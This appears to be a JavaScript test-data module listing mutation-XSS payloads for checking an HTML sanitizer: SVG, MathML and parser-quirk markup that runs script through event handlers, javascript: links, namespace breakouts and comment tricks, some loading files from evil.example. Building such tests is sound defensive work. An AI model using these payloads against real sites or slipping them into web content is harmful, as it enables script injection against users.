// SVG and MathML, and what happens at the borders between them and HTML: markup that a browser reads differently from the
// one who cleaned it (mutation XSS).

import { twice } from "./placements.js";

const run = "owned='WORD'";
const img = `<img src=x onerror="${run}">`;

const svg = [
  ["SVG with a script", `<svg><script>${run}</script></svg>`],
  ["SVG with a script from elsewhere", `<svg><script href="https://evil.example/WORD.js"/></svg>`],
  ["SVG that animates a link", `<svg><a><animate attributeName="href" values="javascript:${run}"/><text y=20>WORD</text></a></svg>`],
  ["SVG that sets a link", `<svg><a id=x><set attributeName="xlink:href" to="javascript:${run}"/><text>WORD</text></a></svg>`],
  ["SVG with events of its own", `<svg><animate onbegin="${run}" attributeName=x dur=1s>WORD</svg>`],
  ["SVG that uses a file", `<svg><use href="https://evil.example/WORD.svg#x"/></svg>`],
  ["SVG that uses data", `<svg><use xlink:href="data:image/svg+xml,<svg id=x onload=${run}/>#x"/></svg>`],
  ["SVG that uses our icons", `<svg class="icon"><use href="#icon-user"/></svg>WORD`],
  ["SVG with HTML inside", `<svg><foreignObject width=9999 height=9999><div xmlns="http://www.w3.org/1999/xhtml">WORD${img}</div></foreignObject></svg>`],
  ["SVG with a picture", `<svg><image href="https://evil.example/WORD.png" width=9 height=9 /></svg>`],
  ["SVG with a filter from elsewhere", `<svg><feImage xlink:href="https://evil.example/WORD"/></svg>`],
  ["SVG with a style", `<svg><style>@import "https://evil.example/WORD.css";</style></svg>`],
  ["SVG with a title", `<svg><title>${img}WORD</title><desc>${img}</desc></svg>`],
  ["SVG over everything", `<svg style="position:fixed;inset:0;width:100vw;height:100vh"><rect width="100%" height="100%"/></svg>WORD`],
  ["SVG with a handler behind a slash", `<svg/onload=${run}>WORD`],
  ["SVG that discards", `<svg><discard href="#main"/></svg>WORD`],
];

const mathml = [
  ["MathML with a link", `<math href="javascript:${run}"><mi>WORD</mi></math>`],
  ["MathML with a link by XLink", `<math><mi xlink:href="javascript:${run}">WORD</mi></math>`],
  ["MathML with an action", `<math><maction actiontype="statusline#https://evil.example/WORD" xlink:href="javascript:${run}"><mi>WORD</mi></maction></math>`],
  ["MathML with an annotation of HTML", `<math><semantics><mi>x</mi><annotation-xml encoding="text/html">${img}WORD</annotation-xml></semantics></math>`],
  ["MathML with an annotation of XHTML", `<math><annotation-xml encoding="application/xhtml+xml"><script>${run}</script></annotation-xml></math>`],
  ["MathML with a glyph", `<math><mtext><mglyph><img src="https://evil.example/WORD.png" onerror="${run}"></mglyph></mtext></math>`],
  ["MathML with a malignmark", `<math><mtext><malignmark><style><!--</style>${img}--></malignmark>WORD</mtext></math>`],
  ["MathML that is huge", `<math><mspace width="99999px" height="99999px"/><mi mathsize="9999pt">WORD</mi></math>`],
  ["MathML that is moved", `<math><mpadded lspace="-9999px" voffset="9999px"><mi>WORD</mi></mpadded></math>`],
  ["MathML with a style", `<math style="position:fixed;inset:0;background:red"><mi>WORD</mi></math>`],
  ["MathML with a picture", `<math><mtext><img src="https://evil.example/WORD.png"></mtext></math>`],
  ["MathML over the background", `<math mathbackground="url(https://evil.example/WORD)"><mi>WORD</mi></math>`],
];

const mutations = [
  ["style in mglyph", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${img}">WORD`],
  ["style in SVG in p", `<svg></p><style><a id="</style>${img}">WORD`],
  ["style in MathML in a form", `<form><math><mtext></form><form><mglyph><style></math>${img}WORD`],
  ["a comment that ends in SVG", `<svg><p><style><!--</style><b title="--></style>${img}">WORD`],
  ["noscript in a title", `<noscript><style></noscript>${img}WORD</style>`],
  ["textarea that closes", `<textarea><a title="</textarea>${img}">WORD`],
  ["title that closes", `<title><a title="</title>${img}">WORD`],
  ["xmp that closes", `<xmp><p title="</xmp>${img}">WORD`],
  ["iframe that closes", `<iframe><p title="</iframe>${img}">WORD`],
  ["noembed that closes", `<noembed><p title="</noembed>${img}">WORD`],
  ["noframes that closes", `<noframes><p title="</noframes>${img}">WORD`],
  ["plaintext", `<plaintext>WORD${img}`],
  ["listing", `<listing>&lt;img src=x onerror=${run}&gt;</listing>`],
  ["a template", `<template><p>WORD</p>${img}</template>`],
  ["a template in a template in a table", `<table><template><tr><td>${img}<template>WORD</table>`],
  ["a select", `<select><option>WORD<style></option></select>${img}</style>`],
  ["a select in a select", `<select><template><style><!--</style><a rel="--></style></template></select>${img}">WORD`],
  ["foster parents", `<table><b><tr>WORD${img}<td>x</b></table>`],
  ["foster parents of a script", `<table><tr><script>${run}</script>WORD<td>x`],
  ["a caption in a caption", `<table><caption><svg><caption>${img}WORD</table>`],
  ["tables without cells", `<table>WORD${img}<table>${img}`],
  ["the adoption agency", `<a><b><i><a>WORD<div></b>${img}</i></a></div>`],
  ["formatting without end", `${"<b><i><u><font><nobr><a>".repeat(30)}WORD`],
  ["misnested blocks", `<p><div></p>${img}</div><li></p><dd>WORD`],
  ["namespaces swapped", `<svg><math><annotation-xml><svg><desc><math><mtext>${img}WORD`],
  ["a colon in a name", `<svg:script xmlns:svg="http://www.w3.org/2000/svg">${run}</svg:script>`],
  ["html and body again", `<html onclick="${run}"><body onload="${run}" class=dark><head><title>WORD</title></head>`],
  ["frameset", `<frameset onload="${run}"><frame src="javascript:${run}">WORD`],
  ["image for img", `<image src=x onerror="${run}">WORD`],
  ["isindex", `<isindex type=image src=x onerror="${run}" prompt=WORD>`],
  ["keygen and menuitem", `<keygen autofocus onfocus="${run}"><menuitem onclick="${run}">WORD`],
  ["ruby", `<ruby><rtc><rt><ruby>WORD${img}<rp>`],
  ["a handler put together from removed tags", `<im<b>g src=x onerr</b>or="${run}">WORD`],
  ["quotes of the other kind", `<a title="&quot;&gt;${img}" href='&apos;&gt;${img}'>WORD</a>`],
  ["backquotes as quotes", `<img src=x alt=\`\`onerror="${run}">WORD`],
];

export const foreign = twice([...svg, ...mathml, ...mutations]);
